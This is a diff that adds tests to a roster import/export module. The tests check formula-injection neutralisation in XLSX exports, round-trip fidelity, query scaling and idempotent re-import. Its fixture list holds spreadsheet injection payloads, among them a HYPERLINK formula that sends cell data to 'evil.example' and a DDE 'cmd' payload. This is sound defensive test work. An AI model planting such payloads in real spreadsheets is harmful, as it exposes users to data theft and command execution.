@@ -427,3 +427,151 @@ def test_a_login_that_looks_like_someone_elses_is_refused(personas, login):
     )
     assert response.status_code == 422, (login, response.text)
     assert state() == before
+
+
+# --- The roster export --------------------------------------------------------------------------
+
+HOSTILE = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "'=already quoted",
+    "''+twice",
+    "王  芳",  # two spaces
+    "=1+1 trailing",
+]
+
+
+def _hostile_roster(personas) -> None:
+    personas.erin  # noqa: B018
+    item_owner = personas.mia
+    teams = [services.do_save_team(None, None, name=name, description="\t=cmd|x\r\n@y") for name in HOSTILE[:4]]
+    services.do_save_team(None, None, name="-sub", parent=teams[0], description="=z")
+    for n, name in enumerate(HOSTILE):
+        services.do_save_person(
+            None,
+            None,
+            invite=False,
+            username=f"h{n}",
+            display_name=name,
+            phone="+86 138 0000 0000" if n % 2 else "=cmd",
+            team=teams[n % len(teams)],
+            role=Role.AGENT,
+        )
+    customer = services.do_save_customer(None, None, code="evil", name="=org()", notes="+notes\n=more")
+    services.do_save_contact(
+        None, None, invite=False, username="c1", display_name="@contact", phone="-1", customer=customer
+    )
+    assert item_owner
+
+
+def test_the_export_neutralises_every_cell_that_a_spreadsheet_would_run(personas):
+    import io
+
+    import openpyxl
+
+    _hostile_roster(personas)
+    workbook = openpyxl.load_workbook(io.BytesIO(export_people()))
+    seen = 0
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate)
+                if isinstance(cell.value, str):
+                    seen += 1
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (
+                        sheet.title,
+                        cell.coordinate,
+                        cell.value,
+                    )
+    assert seen > 40
+
+
+def test_hostile_names_survive_export_then_import_unchanged(personas, django_capture_on_commit_callbacks):
+    _hostile_roster(personas)
+    before = state()
+    audit = counts()["audit"]
+    with django_capture_on_commit_callbacks(execute=True):
+        report = run(export_people(), "export.xlsx", actor=personas.erin)
+    assert report.ok, messages(report)
+    changed = [r for r in report.rows if r["action"] != "unchanged"]
+    assert changed == []
+    assert state() == before
+    assert counts()["audit"] == audit
+    assert mail.outbox == []
+    assert User.objects.get(username="h0").display_name == HOSTILE[0]
+    assert User.objects.get(username="h6").display_name == "王  芳"
+    assert Team.objects.get(name=HOSTILE[0]).description == "=cmd|x\r\n@y"
+
+
+# --- The roster import at scale, and twice ------------------------------------------------------
+
+
+def _big_roster(n: int, *, email: bool = True) -> bytes:
+    rows = [
+        [f"员工{i}", f"user{i}", f"user{i}@example.com" if email else "", "", "客服部" if i % 2 else "运营中心", "客服", "", i % 200, "是"]
+        for i in range(n)
+    ]
+    contacts = [[f"联系人{i}", f"contact{i}", "", "", "xinghe", "是"] for i in range(n // 4)]
+    return xlsx(sheets(员工=[STAFF_HEAD, *rows], 联系人=[CONTACT_HEAD, *contacts]))
+
+
+def _wipe() -> None:
+    Team.objects.update(parent=None, lead=None)
+    User.objects.all().delete()
+    Team.objects.all().delete()
+    Customer.objects.all().delete()
+
+
+def _queries(data: bytes, **kwargs) -> tuple[int, object]:
+    with CaptureQueriesContext(connection) as captured:
+        report = run(data, **kwargs)
+    assert report.ok, messages(report)[:5]
+    return len(captured), report
+
+
+def test_the_imports_queries_grow_linearly_not_quadratically(db, django_capture_on_commit_callbacks):
+    with django_capture_on_commit_callbacks(execute=False):
+        check_200, _r = _queries(_big_roster(200), dry_run=True)
+        check_400, _r = _queries(_big_roster(400), dry_run=True)
+    assert check_400 == check_200  # the check reads the database a fixed number of times
+
+    _wipe()
+    with django_capture_on_commit_callbacks(execute=False):
+        write_200, _r = _queries(_big_roster(200))
+    _wipe()
+    with django_capture_on_commit_callbacks(execute=False):
+        write_400, _r = _queries(_big_roster(400))
+    per_row = (write_400 - write_200) / 250  # 200 staff and 50 contacts more
+    assert write_400 - write_200 <= (write_200 + 50) * 1.1, (write_200, write_400)
+    assert per_row < 25, per_row
+
+
+def test_a_ten_thousand_row_roster_is_checked(db):
+    report = run(_big_roster(10_000), dry_run=True)
+    assert report.ok, messages(report)[:5]
+    assert report.summary["staff"]["created"] == 10_000
+    assert report.summary["contact"]["created"] == 2_500
+    assert User.objects.count() == 0
+
+
+def test_importing_the_same_roster_twice_writes_and_sends_nothing_the_second_time(
+    personas, django_capture_on_commit_callbacks
+):
+    data = _big_roster(30)
+    with django_capture_on_commit_callbacks(execute=True):
+        first = run(data, actor=personas.erin)
+    assert first.ok and first.invited == 30
+    assert len(mail.outbox) == 30
+    before, audit = state(), counts()["audit"]
+    with django_capture_on_commit_callbacks(execute=True) as callbacks:
+        with CaptureQueriesContext(connection) as captured:
+            second = run(data, actor=personas.erin)
+    assert second.ok and second.invited == 0
+    assert {r["action"] for r in second.rows} == {"unchanged"}
+    assert callbacks == []
+    assert len(mail.outbox) == 30
+    assert (state(), counts()["audit"]) == (before, audit)
+    writes = [q["sql"] for q in captured.captured_queries if q["sql"].startswith(("INSERT", "UPDATE", "DELETE"))]
+    assert writes == []
